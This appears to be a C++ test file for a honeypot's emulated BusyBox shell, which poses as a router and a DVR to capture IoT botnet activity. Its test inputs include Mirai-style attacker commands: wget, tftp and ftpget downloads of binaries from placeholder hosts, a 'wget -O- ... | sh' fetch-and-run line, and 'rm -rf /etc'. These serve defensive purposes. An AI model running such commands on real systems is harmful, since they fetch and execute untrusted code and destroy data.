#include <gtest/gtest.h>

#include "honeypot/shell/shell.h"
#include "persona_fixture.h"

namespace kansoku::honeypot::shell {
namespace {

TEST(ShellTest, PersonasAnswerDifferently) {
    Shell router(testing::routerPersona());
    Shell dvr(testing::dvrPersona());
    EXPECT_EQ(router.run("uname -a").output, "Linux TL-WR841N 3.3.8 #1 Mon Mar 16 10:53:11 CST 2015 mips GNU/Linux\n");
    EXPECT_EQ(dvr.run("uname -a").output, "Linux dvr 3.0.8 #1 Fri Jul 5 10:40:11 CST 2013 armv7l GNU/Linux\n");
    EXPECT_EQ(router.run("uname -m").output, "mips\n");
    EXPECT_EQ(dvr.run("uname -srm").output, "Linux 3.0.8 armv7l\n");
    EXPECT_EQ(dvr.run("uname").output, "Linux\n");
    EXPECT_NE(router.run("cat /proc/cpuinfo").output.find("MIPS 24Kc"), std::string::npos);
    EXPECT_NE(dvr.run("cat /proc/cpuinfo").output.find("ARMv7 Processor"), std::string::npos);
    // The header bytes Mirai's loader reads to pick a binary: EI_DATA and e_machine.
    const std::string mips = router.run("cat /bin/busybox").output;
    const std::string arm = dvr.run("cat /bin/echo").output;
    ASSERT_GE(mips.size(), 52U);
    ASSERT_GE(arm.size(), 52U);
    EXPECT_EQ(mips.substr(0, 6), std::string("\x7f"
                                             "ELF\x01\x02",
                                             6));
    EXPECT_EQ(mips.substr(18, 2), std::string("\x00\x08", 2));
    EXPECT_EQ(arm.substr(0, 6), std::string("\x7f"
                                            "ELF\x01\x01",
                                            6));
    EXPECT_EQ(arm.substr(18, 2), std::string("\x28\x00", 2));
    EXPECT_EQ(router.prompt(), "root@TL-WR841N:~# ");
    router.run("cd /tmp");
    EXPECT_EQ(router.prompt(), "root@TL-WR841N:/tmp# ");
    EXPECT_EQ(dvr.prompt(), "# ");
}

TEST(ShellTest, BusyboxBannerAndAppletList) {
    const auto persona = testing::routerPersona();
    Shell shell(persona);
    const ShellResult r = shell.run("busybox");
    EXPECT_EQ(r.output.rfind(persona->busybox_banner + "\nCopyright (C) 1998-2011", 0), 0U) << r.output;
    const size_t list = r.output.find("Currently defined functions:\n\t[, [[, arp, ash, awk,");
    ASSERT_NE(list, std::string::npos) << r.output;
    for (size_t start = list; start < r.output.size();) {
        const size_t end = r.output.find('\n', start);
        EXPECT_LT(end - start, 80U); // wrapped like BusyBox
        start = end + 1;
    }
    EXPECT_NE(r.output.find(", wget, which,\n\txargs, yes, zcat\n\n"), std::string::npos);
    EXPECT_EQ(Shell(testing::dvrPersona()).run("busybox").output.rfind("BusyBox v1.16.1 (2013-07-05", 0), 0U);
    EXPECT_EQ(shell.run("busybox --list | head -n 3").output, "[\n[[\narp\n");
}

TEST(ShellTest, UnknownAppletsAndCommands) {
    Shell router(testing::routerPersona());
    ShellResult r = router.run("/bin/busybox ECCHI");
    EXPECT_EQ(r.output, "ECCHI: applet not found\n");
    EXPECT_EQ(r.status, 127);
    EXPECT_EQ(router.run("busybox /usr/bin/NOPE").output, "NOPE: applet not found\n");
    EXPECT_EQ(router.run("enable").output, "-sh: enable: not found\n");
    EXPECT_EQ(router.run("echo $?").output, "127\n");
    Shell dvr(testing::dvrPersona());
    EXPECT_EQ(dvr.run("system").output, "sh: system: not found\n");
    // Not a DVR applet: the DVR has no nc, the router does.
    EXPECT_EQ(dvr.run("nc").output, "sh: nc: not found\n");
    EXPECT_EQ(router.run("nc").output, "");
    EXPECT_EQ(dvr.run("busybox ECCHI; busybox echo ok").output, "ECCHI: applet not found\nok\n");
}

TEST(ShellTest, ConnectorsAndStatus) {
    Shell shell(testing::routerPersona());
    EXPECT_EQ(shell.run("true && echo a || echo b").output, "a\n");
    EXPECT_EQ(shell.run("false && echo a || echo b").output, "b\n");
    EXPECT_EQ(shell.run("false; echo $?; true; echo $?").output, "1\n0\n");
    EXPECT_EQ(shell.run("cd /nope || cd /var/run || cd /mnt; pwd").output, "-sh: cd: can't cd to /nope\n/var/run\n");
    EXPECT_EQ(shell.run("cat /proc/mounts | grep squashfs").output, "/dev/root / squashfs ro,relatime 0 0\n");
    EXPECT_EQ(shell.run("cat /proc/cpuinfo | grep -c processor").output, "1\n");
    EXPECT_EQ(shell.run("echo a b | cat | cat").output, "a b\n");
}

TEST(ShellTest, QuotingEdgeCases) {
    Shell shell(testing::routerPersona());
    EXPECT_EQ(shell.run("echo 'a  b' \"c  d\" e\\ \\ f").output, "a  b c  d e  f\n");
    EXPECT_EQ(shell.run("echo \"$HOME\" '$HOME' \\$HOME ${HOME}x").output, "/root $HOME $HOME /rootx\n");
    EXPECT_EQ(shell.run("echo 'it'\"'\"'s'").output, "it's\n");
    EXPECT_EQ(shell.run("echo \"a;b\" 'c&&d' e'|'f").output, "a;b c&&d e|f\n");
    EXPECT_EQ(shell.run("echo '' x \"\"").output, " x \n");
    EXPECT_EQ(shell.run("echo $UNSET x").output, "x\n");
    EXPECT_EQ(shell.run("echo 'unterminated").output, "-sh: syntax error: unterminated quoted string\n");
    EXPECT_EQ(shell.run("X=1; echo $X").output, "1\n");
    EXPECT_EQ(shell.run("cd /tmp; echo $PWD").output, "/tmp\n");
    EXPECT_EQ(shell.run("echo -n a; echo -e 'b\\tc'; echo -x").output, "ab\tc\n-x\n");
    EXPECT_EQ(shell.run("echo -e 'stop\\chere'; echo next").output, "stopnext\n");
}

TEST(ShellTest, FilesAndRedirections) {
    Shell shell(testing::routerPersona());
    ShellResult r = shell.run("cd /tmp; echo hello > a; echo world >> a; cat a");
    EXPECT_EQ(r.output, "hello\nworld\n");
    ASSERT_EQ(r.files_written.size(), 1U);
    EXPECT_EQ(r.files_written[0].path, "/tmp/a");
    EXPECT_EQ(r.files_written[0].content, "hello\nworld\n");
    EXPECT_EQ(shell.run("cp a b; rm a; cat a b").output,
              "cat: can't open 'a': No such file or directory\nhello\nworld\n");
    EXPECT_EQ(shell.run("ls").output, "b\n");
    EXPECT_EQ(shell.run("mkdir -p d/e; ls; ls d").output, "b\nd\ne\n");
    EXPECT_EQ(shell.run("echo x > /nope/f").output, "-sh: can't create /nope/f: nonexistent directory\n");
    EXPECT_EQ(shell.run("cat nope 2>/dev/null; echo $?").output, "1\n");
    EXPECT_EQ(shell.run("cat nope > out 2>&1; cat out").output, "cat: can't open 'nope': No such file or directory\n");
    EXPECT_EQ(shell.run("chmod 777 b; ls -l b").output.substr(0, 10), "-rwxrwxrwx");
    EXPECT_EQ(shell.run("chmod -x b; ls -l b").output.substr(0, 10), "-rw-rw-rw-");
    EXPECT_EQ(shell.run("rm -rf /tmp/*; rm x").output, "rm: can't remove 'x': No such file or directory\n");
    EXPECT_EQ(shell.run("dd if=/bin/busybox bs=52 count=1 2>/dev/null").output, testing::routerPersona()->busybox_elf);
    EXPECT_EQ(shell.run("head -n 1 /etc/passwd").output, "root:x:0:0:root:/root:/bin/sh\n");
    EXPECT_EQ(shell.run("cat < /etc/hosts").output, "127.0.0.1 localhost\n");
    // The persona itself is never changed: a new session sees the original files.
    shell.run("rm -rf /etc; echo x > /proc/version");
    EXPECT_EQ(shell.run("cat /etc/passwd").status, 1);
    EXPECT_EQ(Shell(testing::routerPersona()).run("cat /etc/hosts").output, "127.0.0.1 localhost\n");
}

TEST(ShellTest, ShAndScripts) {
    Shell shell(testing::routerPersona());
    EXPECT_EQ(shell.run("sh").output, "");
    EXPECT_EQ(shell.run("sh -c 'echo in; cd /tmp'; pwd").output, "in\n/root\n");
    EXPECT_EQ(shell.run("echo 'echo from pipe' | sh").output, "from pipe\n");
    ShellResult r = shell.run("cd /tmp; printf 'echo one\\necho two\\n' > s.sh; sh s.sh | grep two");
    EXPECT_EQ(r.output, "two\n");
    ASSERT_EQ(r.executions.size(), 1U);
    EXPECT_EQ(r.executions[0].path, "/tmp/s.sh");
    // A script nested in itself stops at the depth limit, counted.
    r = shell.run("echo 'sh /tmp/loop.sh' > loop.sh; sh loop.sh");
    EXPECT_GT(r.limits.get(ShellLimit::ScriptDepth), 0U);
    EXPECT_NE(r.output.find("script nesting too deep"), std::string::npos);
    EXPECT_FALSE(shell.run("sh -c exit").exit_requested);
    EXPECT_TRUE(shell.run("exit").exit_requested);
}

TEST(ShellTest, DownloadsAreRecordedNotFetched) {
    Shell shell(testing::dvrPersona());
    ShellResult r = shell.run("cd /tmp; wget http://192.0.2.5/bins/x.arm7 -O x; tftp -g -r t.arm 192.0.2.6 69; "
                              "ftpget -u a -p b 192.0.2.7 f.arm f.arm; busybox wget 192.0.2.8/y -q");
    ASSERT_EQ(r.downloads.size(), 4U);
    EXPECT_EQ(r.downloads[0].url, "http://192.0.2.5/bins/x.arm7");
    EXPECT_EQ(r.downloads[0].tool, "wget");
    EXPECT_EQ(r.downloads[0].output_path, "/tmp/x");
    EXPECT_EQ(r.downloads[1].url, "tftp://192.0.2.6:69/t.arm");
    EXPECT_EQ(r.downloads[1].output_path, "/tmp/t.arm");
    EXPECT_EQ(r.downloads[2].url, "ftp://a:b@192.0.2.7/f.arm");
    EXPECT_EQ(r.downloads[3].url, "http://192.0.2.8/y");
    EXPECT_EQ(r.downloads[3].output_path, "/tmp/y");
    EXPECT_NE(r.output.find("Connecting to 192.0.2.5 (192.0.2.5:80)"), std::string::npos);
    EXPECT_EQ(shell.run("ls").output, "f.arm\nt.arm\nx\ny\n");
    // curl is no applet on this DVR.
    EXPECT_EQ(shell.run("curl -O http://192.0.2.5/z").output, "sh: curl: not found\n");
    r = shell.run("wget -O- http://192.0.2.5/s.sh | sh");
    ASSERT_EQ(r.downloads.size(), 1U);
    EXPECT_EQ(r.downloads[0].output_path, "-");
}

TEST(ShellTest, ProvidedFilesRunAsTheirContentSays) {
    Shell shell(testing::dvrPersona());
    shell.run("cd /tmp; wget http://192.0.2.5/a.sh; chmod +x a.sh");
    ASSERT_EQ(shell.provideFile("/tmp/a.sh", "echo from script\nwget http://192.0.2.5/bins/b.arm7\n"), FsStatus::Ok);
    ShellResult r = shell.run("./a.sh");
    EXPECT_NE(r.output.find("from script\n"), std::string::npos);
    ASSERT_EQ(r.downloads.size(), 1U);
    EXPECT_EQ(r.downloads[0].url, "http://192.0.2.5/bins/b.arm7");
    EXPECT_TRUE(r.files_written.empty()); // provided bytes are the downloader's, not the attacker's writes
}

} // namespace
} // namespace kansoku::honeypot::shell
